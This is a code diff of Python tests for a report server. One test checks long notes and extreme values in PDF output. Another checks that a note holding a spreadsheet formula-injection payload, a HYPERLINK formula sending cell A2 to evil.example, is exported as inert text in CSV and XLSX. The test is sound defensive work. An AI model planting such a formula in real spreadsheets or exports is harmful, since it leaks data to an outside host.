@@ -190,17 +190,39 @@ def test_a_serving_process_loads_the_renderers_with_its_first_report_not_at_star
     assert loaded.stdout.strip() == "[]"
 
 
-def test_a_note_is_text_in_the_spreadsheets_never_a_formula_and_control_characters_do_not_break_them(tmp_path, new_store):
+@pytest.fixture
+def fresh(tmp_path, new_store):
     server = Server(tmp_path, new_store()).start()
-    try:
-        area = new_area(server)
-        note = '=HYPERLINK("http://evil.example/?"&A2,"Click")\u0007 bell'
-        server.ok("reportActionProgress", {"actionId": area.action, "note": note}, area.lead)
-        rows = list(csv.reader(io.StringIO(report(server, area.plan, area.lead, format="csv").text)))
-        assert rows[1][rows[0].index("Latest note")] == "'" + note
-        answer = report(server, area.plan, area.lead, format="xlsx")
-        assert answer.status_code == 200
-        cell = load_workbook(io.BytesIO(answer.content))["Actions"]["K2"]
-        assert (cell.data_type, cell.value) == ("s", note.replace("\u0007", ""))
-    finally:
-        server.stop()
+    yield server
+    server.stop()
+
+
+def test_the_longest_note_and_an_extreme_measure_lay_out_on_paper(fresh):
+    area = new_area(fresh)
+    words = ("The designated clinical officer reviewed every EHC plan issued late this term " * 200)[:10_000]
+    fresh.ok("reportActionProgress", {"actionId": area.action, "note": words}, area.lead)
+    metric = fresh.ok("defineMetric", {"partnershipId": area.partnership, "name": "Requests for an EHC needs assessment",
+                                       "unit": "COUNT", "polarity": "LOWER_IS_BETTER", "target": 1e12},
+                      area.lead, "metric { id }")["metric"]["id"]
+    for period, end, value in [("Autumn term 2024", "2024-12-20", -1e12), ("Spring term 2025", "2025-04-04", 1e12)]:
+        fresh.ok("recordMeasurement", {"metricId": metric, "period": period, "periodEnd": end, "value": value}, area.lead)
+    too_large = fresh.mutate("recordMeasurement", {"metricId": metric, "period": "Summer term 2025",
+                                                   "periodEnd": "2025-07-22", "value": 1e308}, area.lead)
+    assert [e["code"] for e in too_large["userErrors"]] == ["INVALID"]
+    answer = report(fresh, area.plan, area.lead, format="pdf")
+    assert answer.status_code == 200, answer.text
+    text = re.sub(r"\s+", " ", "".join(page.extract_text() for page in PdfReader(io.BytesIO(answer.content)).pages))
+    assert text.count("reviewed every EHC plan") >= 100  # the note is all there, across pages
+    assert "Spring term 2025: 1e+12" in text  # the chart's text alternative
+
+
+def test_a_note_is_text_in_the_spreadsheets_never_a_formula_and_control_characters_do_not_break_them(fresh):
+    area = new_area(fresh)
+    note = '=HYPERLINK("http://evil.example/?"&A2,"Click")\u0007 bell'
+    fresh.ok("reportActionProgress", {"actionId": area.action, "note": note}, area.lead)
+    rows = list(csv.reader(io.StringIO(report(fresh, area.plan, area.lead, format="csv").text)))
+    assert rows[1][rows[0].index("Latest note")] == "'" + note
+    answer = report(fresh, area.plan, area.lead, format="xlsx")
+    assert answer.status_code == 200
+    cell = load_workbook(io.BytesIO(answer.content))["Actions"]["K2"]
+    assert (cell.data_type, cell.value) == ("s", note.replace("\u0007", ""))
